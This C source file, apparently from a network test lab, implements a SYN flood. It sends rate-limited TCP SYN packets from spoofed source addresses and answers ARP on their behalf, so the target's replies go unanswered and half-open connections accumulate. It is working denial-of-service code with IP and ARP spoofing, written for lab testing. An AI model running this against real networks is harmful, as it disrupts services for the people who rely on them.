/* A machine that begins TCP connections and never goes on: SYNs at a bounded rate, from ports drawn at random.
 *
 * It is no machine of the lab.  Its packets are sent by the far end of the victim's wire, as if it stood at the same
 * switch, and what the victim asks about its addresses (ARP) is answered there, so that the victim's own answers go to
 * somebody who keeps silent: an address that nobody has would end them after a moment (host unreachable). */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "base/clock.h"
#include "base/fd.h"
#include "base/table.h"
#include "base/units.h"
#include "link/random.h"
#include "relay/relay.h"

#define TURN         (NANOSECONDS_PER_SECOND / 100)
#define FIRST_PORT   1024u
#define MAXIMUM_SIZE 1460 /* RFC 9293: the usual MSS on Ethernet */

struct syn {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[4];
} __attribute__((packed));

/* RFC 1071, of what begins at an even place. */
static uint32_t sum(uint32_t total, const void *data, size_t length)
{
    const uint8_t *bytes = data;
    for (size_t i = 0; i + 1 < length; i += 2)
        total += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    return total;
}

static uint16_t folded(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return htons((uint16_t)~total);
}

static struct syn make_syn(const struct flood *flood, struct random *random)
{
    uint32_t source = ntohl(flood->first.s_addr) + random_below(random, flood->sources);
    struct syn syn = {
        .ethernet = {.ether_type = htons(ETHERTYPE_IP)},
        .ip = {.version = 4,
               .ihl = sizeof syn.ip / 4,
               .tot_len = htons(sizeof syn - sizeof syn.ethernet),
               .id = (uint16_t)random_next(random),
               .frag_off = htons(IP_DF),
               .ttl = IPDEFTTL,
               .protocol = IPPROTO_TCP,
               .saddr = htonl(source),
               .daddr = flood->victim.s_addr},
        .tcp = {.source = htons((uint16_t)(FIRST_PORT + random_below(random, 65536 - FIRST_PORT))),
                .dest = htons(flood->port),
                .seq = (uint32_t)random_next(random),
                .doff = (sizeof syn.tcp + sizeof syn.options) / 4,
                .syn = 1,
                .window = htons(64240)},
        .options = {TCPOPT_MAXSEG, TCPOLEN_MAXSEG, MAXIMUM_SIZE >> 8, MAXIMUM_SIZE & 0xff},
    };
    const size_t segment = sizeof syn.tcp + sizeof syn.options;
    memcpy(syn.ethernet.ether_dhost, flood->victim_mac, ETH_ALEN);
    memcpy(syn.ethernet.ether_shost, flood->own_mac, ETH_ALEN);
    syn.ip.check = folded(sum(0, &syn.ip, sizeof syn.ip));
    uint32_t pseudo = sum(0, &syn.ip.saddr, 2 * sizeof syn.ip.saddr) + IPPROTO_TCP + (uint32_t)segment;
    syn.tcp.check = folded(sum(pseudo, &syn.tcp, segment));
    return syn;
}

/* Answers where one of its own addresses is asked for. */
static void answer_arp(int fd, const struct flood *flood)
{
    struct {
        struct ether_header ethernet;
        struct ether_arp arp;
    } __attribute__((packed)) frame;
    uint32_t asked, first = ntohl(flood->first.s_addr);
    while (recv(fd, &frame, sizeof frame, MSG_DONTWAIT) == (ssize_t)sizeof frame) {
        memcpy(&asked, frame.arp.arp_tpa, sizeof asked);
        if (frame.ethernet.ether_type != htons(ETHERTYPE_ARP) || frame.arp.ea_hdr.ar_op != htons(ARPOP_REQUEST) ||
            ntohl(asked) - first >= flood->sources)
            continue;
        frame.arp.ea_hdr.ar_op = htons(ARPOP_REPLY);
        memcpy(frame.arp.arp_tha, frame.arp.arp_sha, ETH_ALEN);
        memcpy(frame.arp.arp_tpa, frame.arp.arp_spa, sizeof frame.arp.arp_tpa);
        memcpy(frame.arp.arp_sha, flood->own_mac, ETH_ALEN);
        memcpy(frame.arp.arp_spa, &asked, sizeof asked);
        memcpy(frame.ethernet.ether_dhost, frame.arp.arp_tha, ETH_ALEN);
        memcpy(frame.ethernet.ether_shost, flood->own_mac, ETH_ALEN);
        send(fd, &frame, sizeof frame, MSG_DONTWAIT);
    }
}

/* A socket on the device that sees the ARP which comes in there, and nothing else. */
static int open_device(const char *device)
{
    static const struct sock_filter arp[] = {
        BPF_STMT(BPF_LD | BPF_H | BPF_ABS, offsetof(struct ether_header, ether_type)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, ETHERTYPE_ARP, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, UINT16_MAX),
        BPF_STMT(BPF_RET | BPF_K, 0),
    };
    const struct sock_fprog program = {.len = ARRAY_SIZE(arp), .filter = (struct sock_filter *)arp};
    const int on = 1;
    struct sockaddr_ll place = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL), .sll_ifindex = (int)if_nametoindex(device)};
    FD_AUTO fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (fd < 0 || !place.sll_ifindex || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) ||
        setsockopt(fd, SOL_PACKET, PACKET_IGNORE_OUTGOING, &on, sizeof on) ||
        bind(fd, (struct sockaddr *)&place, sizeof place))
        return -1;
    return fd_steal(&fd);
}

int flood(const struct flood *flood)
{
    struct random random;
    FD_AUTO fd = open_device(flood->device);
    random_seed(&random, (uint64_t)clock_boot(), 0);
    double due = 0; /* SYNs that are to be sent; what could not be sent in time never is */
    for (int64_t last = clock_boot(), now; fd >= 0; last = now) {
        struct pollfd ready = {.fd = fd, .events = POLLIN};
        poll(&ready, 1, (int)(TURN * 1000 / NANOSECONDS_PER_SECOND));
        if (ready.revents & POLLERR)
            break;
        answer_arp(fd, flood);
        now = clock_boot();
        int64_t turn = now - last < 2 * TURN ? now - last : 2 * TURN;
        for (due += (double)flood->rate * (double)turn / NANOSECONDS_PER_SECOND; due >= 1; due--) {
            struct syn syn = make_syn(flood, &random);
            if (send(fd, &syn, sizeof syn, MSG_DONTWAIT) < 0 && errno == ENXIO)
                break;
        }
    }
    fprintf(stderr, "%s: %s\n", flood->device, strerror(errno)); /* it was made anew just now: so are we */
    return 1;
}
